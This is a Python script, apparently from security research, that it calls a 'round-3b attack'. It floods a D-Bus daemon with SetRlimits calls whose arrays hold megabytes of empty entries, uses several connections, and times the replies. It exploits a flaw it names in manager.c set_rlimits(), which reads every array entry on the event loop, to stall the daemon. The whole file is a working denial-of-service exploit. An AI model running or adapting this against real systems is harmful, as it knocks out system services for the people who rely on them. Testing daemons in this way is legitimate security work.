#!/usr/bin/python3
# big-batch.py CONNS MSGS MB: round-3b attack. Each of CONNS connections
# sends MSGS SetRlimits(0, a(stt)) calls whose array holds MB megabytes of
# ("", 0, 0) entries (24 bytes each), then waits for every reply. The daemon
# reads every entry on its event loop (manager.c set_rlimits() loops to the
# array's end although it keeps only RLIM_NLIMITS + 1).
# Prints "BIG conns= msgs= entries= replies= first_reply_s= last_reply_s= err=".
import os, sys, struct, time, threading
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rawbus import Bus, marshal, _align

conns, msgs, mb = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
member = sys.argv[4] if len(sys.argv) > 4 else 'SetRlimits'
n = int(mb * 1024 * 1024) // 24
elem = struct.pack('<I', 0) + b'\0' + b'\0' * 3 + struct.pack('<QQ', 0, 0)
body = struct.pack('<II', 0, n * 24) + elem * n

def send_raw(bus, body):
    bus.serial += 1
    fields = [(1, ('o', '/org/example/Resource1')), (2, ('s', 'org.example.Resource1')),
              (3, ('s', member)), (6, ('s', 'org.example.Resource1')), (8, ('g', 'ua(stt)'))]
    hdr = bytearray(b'l\x01\x00\x01') + struct.pack('<II', len(body), bus.serial)
    marshal(hdr, 'a(yv)', fields)
    _align(hdr, 8)
    bus.sock.sendall(bytes(hdr) + body)
    return bus.serial

t0 = time.time()
times, errs = [], []
def run():
    b = Bus()
    serials = [send_raw(b, body) for _ in range(msgs)]
    for s in serials:
        err, vals = b.wait_reply(s)
        times.append(time.time() - t0)
        errs.append(f'{err}:{vals[0][:60] if vals else ""}')
th = [threading.Thread(target=run) for _ in range(conns)]
for t in th: t.start()
for t in th: t.join()
times.sort()
print(f'BIG conns={conns} msgs={msgs} entries={n} replies={len(times)} first_reply_s={times[0]:.2f} '
      f'last_reply_s={times[-1]:.2f} err={errs[0] if errs else None}', flush=True)
